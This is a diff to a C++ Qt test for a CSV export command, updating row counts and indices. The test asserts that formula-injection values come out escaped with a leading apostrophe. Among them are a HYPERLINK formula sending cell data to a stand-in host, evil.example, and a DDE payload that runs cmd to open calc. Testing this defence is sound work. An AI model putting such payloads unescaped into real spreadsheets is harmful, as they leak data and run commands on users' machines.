@@ -108,14 +108,14 @@ private Q_SLOTS:
         const Run run = runSlipway({u"export"_qs, u"csv"_qs, u"--db"_qs, m_file, u"--table"_qs,
                                     u"releases"_qs, u"--out"_qs, out});
         QVERIFY2(run.exitCode == 0, run.err.constData());
-        QVERIFY(run.outText().contains(u"43"_qs));
+        QVERIFY(run.outText().contains(u"63"_qs)); // the demo's 60 and the three added
         const QByteArray bytes = fileBytes(out);
         QVERIFY(bytes.endsWith("\r\n"));
         QVERIFY(!bytes.startsWith("\xEF\xBB\xBF"));
         QString problem;
         const QList<QStringList> rows = parseCsv(bytes, &problem);
         QVERIFY2(problem.isEmpty(), qPrintable(problem));
-        QCOMPARE(rows.size(), 1 + 43);
+        QCOMPARE(rows.size(), 1 + 63);
         QCOMPARE(rows.first(), ReleaseCsvExporter::header());
         for (const QStringList& row : rows)
             QCOMPARE(row.size(), rows.first().size());
@@ -126,17 +126,17 @@ private Q_SLOTS:
         const qsizetype team = rows.first().indexOf(u"team"_qs);
         QVERIFY(!rows[1][team].isEmpty()); // names, not ids
 
-        const QStringList evil = rows[41];
+        const QStringList evil = rows[61];
         QCOMPARE(evil[name], u"'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"_qs);
         QCOMPARE(evil[owner], u"'@SUM(1+1)"_qs);
         QCOMPARE(evil[objectives], u"'+cmd|' /C calc'!A0"_qs);
 
-        const QStringList numbers = rows[42];
+        const QStringList numbers = rows[62];
         QCOMPARE(numbers[name], u"-12.5"_qs); // a plain number is data, left alone
         QCOMPARE(numbers[owner], u"'-2+3"_qs);
         QCOMPARE(numbers[objectives], u"Line one\r\nLine two, with \"quotes\""_qs);
 
-        const QStringList unicode = rows[43];
+        const QStringList unicode = rows[63];
         QCOMPARE(unicode[name], u"Zürich rollout ✓"_qs);
         QCOMPARE(unicode[owner], u"'\tTabbed"_qs);
         QCOMPARE(unicode[objectives], u"'\rCarriage"_qs);
